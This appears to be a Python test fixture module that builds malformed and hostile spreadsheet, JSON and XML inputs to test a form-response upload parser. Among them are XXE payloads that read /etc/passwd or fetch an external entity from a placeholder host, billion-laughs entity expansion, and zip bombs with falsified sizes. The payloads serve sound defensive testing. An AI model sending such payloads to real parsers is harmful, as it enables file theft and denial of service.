"""Files that no form tool would write, or that harm a reader that believes them. Built when needed:
none of them should lie in a repository.
"""

# ruff: noqa: E501 - each kind of file on its own line

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Callable

from tests.intake.builders import a_csv

Build = Callable[[], bytes]

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_BOOK_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
_BOOK = (
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Svar" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_ODS = "application/vnd.oasis.opendocument.spreadsheet"
_SHEET = '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'


def cell(text: str) -> str:
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


def workbook(rows: str = "", doctype: str = "", **parts: str | bytes | None) -> bytes:
    """A workbook of one sheet; a part may be replaced, or (None) left out."""
    members: dict[str, str | bytes | None] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _RELS,
        "xl/workbook.xml": _BOOK,
        "xl/_rels/workbook.xml.rels": _BOOK_RELS,
        "xl/worksheets/sheet1.xml": _SHEET.format(rows=rows).replace("?>", f"?>{doctype}", 1),
        **parts,
    }
    return archive(members)


def archive(parts: dict[str, str | bytes | None], packed_as: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", packed_as) as made:
        for name, content in parts.items():
            if content is not None:
                raw = (
                    content.encode("utf-8", "surrogatepass")
                    if isinstance(content, str)
                    else content
                )
                made.writestr(name, raw)
    return buffer.getvalue()


def ods(content: str) -> bytes:
    return archive({"mimetype": _ODS, "content.xml": content})


def ods_row(*texts: str, rows: int = 1, columns: int = 1) -> str:
    """As many rows, and as many cells for each text, as are said."""
    cells = "".join(
        f'<table:table-cell table:number-columns-repeated="{columns}">'
        f"<text:p>{text}</text:p></table:table-cell>"
        for text in texts
    )
    return f'<table:table-row table:number-rows-repeated="{rows}">{cells}</table:table-row>'


def spreadsheet(rows: str) -> str:
    """The content of an ODS of one sheet."""
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "table", "text")
    )
    return (
        f'<?xml version="1.0"?><office:document-content {spaces}><office:body><office:spreadsheet>'
        f'<table:table table:name="Svar">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )


def broken_part() -> bytearray:
    """One byte of the sheet is not what its checksum says."""
    raw = bytearray(archive({"xl/workbook.xml": _BOOK}, zipfile.ZIP_STORED))
    raw[raw.index(b"Svar")] ^= 1
    return raw


def _with_strings(strings: str) -> dict[str, str | bytes | None]:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
    more = f'<Relationship Id="rId2" Type="{kind}" Target="sharedStrings.xml"/></Relationships>'
    return {
        "xl/sharedStrings.xml": f"<sst>{strings}</sst>",
        "xl/_rels/workbook.xml.rels": _BOOK_RELS.replace("</Relationships>", more),
    }


def bomb(name: str, megabytes: int) -> bytes:
    """One member of so many megabytes of spaces."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("xl/workbook.xml", _BOOK)
        with made.open(name, "w", force_zip64=True) as part:
            for _megabyte in range(megabytes):
                part.write(b" " * 1_000_000)
    return buffer.getvalue()


def lying_about_size() -> bytes:
    """A sheet of 30 MB that is declared to be 1 kB."""
    raw = bytearray(workbook(cell("x" * 30_000_000)))
    real = struct.pack("<I", len(_SHEET.format(rows=cell("x" * 30_000_000)).encode()))
    at = raw.find(real)
    while at >= 0:
        raw[at : at + 4] = struct.pack("<I", 1000)
        at = raw.find(real, at + 4)
    return bytes(raw)


def encrypted() -> bytes:
    raw = bytearray(workbook())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(signature)
        while at >= 0:
            raw[at + offset] |= 1
            at = raw.find(signature, at + 4)
    return bytes(raw)


def twice_the_same_part() -> bytes:
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as made:
        warnings.simplefilter("ignore")
        made.writestr("xl/workbook.xml", _BOOK)
        made.writestr("xl/workbook.xml", _BOOK)
    return buffer.getvalue()


def good() -> str:
    return a_csv({}).decode()


_LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n > 1 else "&a;" * 10}">' for n in range(1, 10)
) + "]>"  # fmt: skip
_STEAL = '<!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>'

TEXTS: dict[str, Build] = {
    "empty": lambda: b"",
    "only spaces": lambda: b" \n \n\t",
    "only a byte order mark": lambda: b"\xef\xbb\xbf",
    "an odd delimiter": lambda: good().replace(",", "|").encode(),
    "one column": lambda: b"Rubrik\r\nHej\r\n",
    "a line of 50 MB": lambda: b"a," * 24_900_000,
    "a quotation mark never closed in 50 MB": lambda: (good() + '2,"').encode() + b'""\n' * 16_500_000,
    "a schema of 50 MB": lambda: b'"ListSchema={' + b'""' * 24_900_000,
    "only NUL": lambda: bytes(5000),
    "a file of 60 MB": lambda: b"a,b\n" * 15_000_000,
    "too many rows": lambda: (good().split("\r\n")[0] + "\r\n" + (good().split("\r\n")[1] + "\r\n") * 50_001).encode(),
    "too many columns": lambda: (",".join(f"k{n}" for n in range(20_000)) + "\n").encode() * 2,
    "two encodings": lambda: "Å,Ä\n".encode() + "Å,Ä\n".encode("cp1252"),
    "UTF-8 with a broken end": lambda: b"\xef\xbb\xbf" + "Å,Ä\n".encode() + b"\xc3",
    "half UTF-16": lambda: "Rubrik,Kommun\n".encode("utf-16")[:-1],
    "half UTF-16 without a mark": lambda: good().encode("utf-16-le")[:-1],
    "UTF-32": lambda: good().encode("utf-32"),
    "no encoding at all": lambda: b"a,b\n\x81\x8d,\x8f\n",
    "a picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "a PDF": lambda: b"%PDF-1.7\n%\xe2\xe3\n",
    "gzip": lambda: gzip.compress(a_csv({})),
    "old Excel, or a password": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "a web page named .xls": lambda: b"<html><table><tr><td>Rubrik</td></tr></table></html>",
    "a web page with a doctype": lambda: b"<!DOCTYPE html><title>x</title>",
    "a question with new words": lambda: good().replace("Rubrik", "Titel").encode(),
    "conflict marks of git": lambda: ("<<<<<<< HEAD\n" + good()).encode(),
    "random bytes": lambda: bytes((n * 7919) % 251 for n in range(5000)),
}  # fmt: skip
WORKBOOKS: dict[str, Build] = {
    "a zip of something else": lambda: archive({"svar.csv": good()}),
    "cut short": lambda: workbook(cell("x"))[:-40],
    "only the beginning of a zip": lambda: b"PK\x03\x04" + bytes(60),
    "binary Excel": lambda: archive({"xl/workbook.bin": b"\x00"}),
    "a password on each part": encrypted,
    "the same part twice": twice_the_same_part,
    "ten thousand parts": lambda: archive({"xl/workbook.xml": _BOOK} | {f"p{n}": "" for n in range(10_000)}),
    "a bomb": lambda: bomb("xl/worksheets/sheet1.xml", 300),
    "a bomb in a part nobody reads": lambda: bomb("docProps/thumbnail.emf", 300),
    "a size that lies": lying_about_size,
    "a cell of 50 MB in a workbook": lambda: workbook("<row>" + cell("x!#%" * 12_000_000) + "</row>"),
    "a doctype": lambda: workbook(doctype=_STEAL),
    "a billion laughs": lambda: workbook(cell("&a9;"), doctype=_LAUGHS),
    "a doctype in UTF-16": lambda: workbook(**{"xl/worksheets/sheet1.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + _STEAL + "<worksheet/>").encode("utf-16")}),
    "a doctype among shared strings": lambda: workbook(**{"xl/sharedStrings.xml": '<?xml version="1.0"?>' + _STEAL + "<sst/>"}),
    "broken XML": lambda: workbook("<row><c>"),
    "no sheet": lambda: workbook(**{"xl/worksheets/sheet1.xml": None}),
    "no list of sheets": lambda: workbook(**{"xl/workbook.xml": "<workbook/>"}),
    "an empty sheet": lambda: workbook(),
    "a column for every letter": lambda: workbook("<row>" + cell("x") * 16_384 + "</row>" * 1),
    "a million rows": lambda: workbook("<row><c><v>1</v></c></row>" * 1_048_576),
    "rows of cells without end": lambda: workbook(("<row>" + "<c><v>1</v></c>" * 900 + "</row>") * 1_000),
    "half a million names of ranges": lambda: workbook(**{"xl/workbook.xml": _BOOK.replace("</workbook>", "<definedNames>" + "<definedName/>" * 500_000 + "</definedNames></workbook>")}),
    "a million shared texts": lambda: workbook(**_with_strings("<si/>" * 1_000_000)),
    "a text that is not among the shared": lambda: workbook('<row><c t="s"><v>7</v></c></row>', **_with_strings("<si/>")),
    "deep XML in a workbook": lambda: workbook("<row>" + "<c>" * 100_000),
    "no parts named": lambda: workbook(**{"xl/_rels/workbook.xml.rels": None}),
    "an unknown encoding in a workbook": lambda: workbook(**{"xl/workbook.xml": '<?xml version="1.0" encoding="klingon"?><workbook/>'}),
    "a part packed in another way": lambda: archive({"xl/workbook.xml": _BOOK}, zipfile.ZIP_LZMA),
    "a part with another name inside": lambda: workbook().replace(b"xl/workbook.xml", b"xl/workbook.xmx", 1),
    "a part that does not add up": lambda: bytes(broken_part()),
    "ten thousand names of parts": lambda: b"PK\x03\x04" + b"PK\x01\x02" * 10_000,
    "an ODS of repeated rows and cells": lambda: ods(spreadsheet(ods_row("a", rows=50_002, columns=1_001) * 2)),
    "an ODS of repeated cells": lambda: ods(spreadsheet(ods_row("a", rows=40_000, columns=900))),
    "a deep ODS": lambda: ods(spreadsheet("<table:table-row><table:table-cell><text:p>" + "<text:span>" * 20_000)),
    "an ODS with a password": lambda: archive({"mimetype": _ODS, "content.xml": "\x00\x01", "META-INF/manifest.xml": "<a><encryption-data/></a>"}),
    "an ODS whose kind can't be read": lambda: ods("<x/>").replace(b"mimetype", b"mimetypf", 1),
    "an ODS with a doctype": lambda: ods('<?xml version="1.0"?>' + _STEAL + "<x/>"),
    "an ODS cut short": lambda: ods("<x/>")[:-30],
    "an ODS without content": lambda: archive({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
}  # fmt: skip
TREES: dict[str, Build] = {
    "deep JSON": lambda: b"[" * 100_000,
    "deep JSON that ends": lambda: b"[" * 500 + b"]" * 500,
    "a name twice": lambda: b'[{"Rubrik": "a", "Rubrik": "b"}]',
    "NaN": lambda: b'[{"Nr": NaN}]',
    "JSON cut short": lambda: b'[{"Rubrik": "a"',
    "a number alone": lambda: b"[1, 2, 3]",
    "a million empty texts": lambda: b"[" + b'"",' * 1_000_000 + b'""]',
    "a name twice among a million": lambda: b"[{" + b",".join(b'"k%d":1' % n for n in range(500_000)) + b',"k1":1}]',
    "more questions than a form can have": lambda: b"[{" + b",".join(b'"k%d":1' % n for n in range(6_000)) + b"}]",
    "a million responses": lambda: b"[" + b"{}," * 1_000_000 + b"{}]",
    "a billion laughs in XML": lambda: f'<?xml version="1.0"?>{_LAUGHS}<s><r>&a9;</r></s>'.encode(),
    "quadratic blow-up": lambda: f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY b "{"x" * 50_000}">]><s>{"&b;" * 5000}</s>'.encode(),
    "a file stolen by XML": lambda: f'<?xml version="1.0"?>{_STEAL}<s><r>&s;</r></s>'.encode(),
    "a parameter entity": lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://x.example/d">%p;]><s/>',
    "deep XML": lambda: b"<a>" * 50_000 + b"</a>" * 50_000,
    "a tag of 50 MB": lambda: b"<s " + b'a="1" ' * 8_200_000 + b"/>",
    "ten million elements": lambda: b"<s>" + b"<a/>" * 10_000_000 + b"</s>",
    "a million names": lambda: b"<s>" + b"".join(b"<a%d/>" % n for n in range(1_000_000)) + b"</s>",
    "XML cut short": lambda: b"<s><r>Hej</r>",
    "XML that is not well-formed": lambda: b'<?xml version="1.0"encoding="UTF_8"?><s/>',
    "an unknown encoding": lambda: b'<?xml version="1.0" encoding="klingon"?><s/>',
}  # fmt: skip
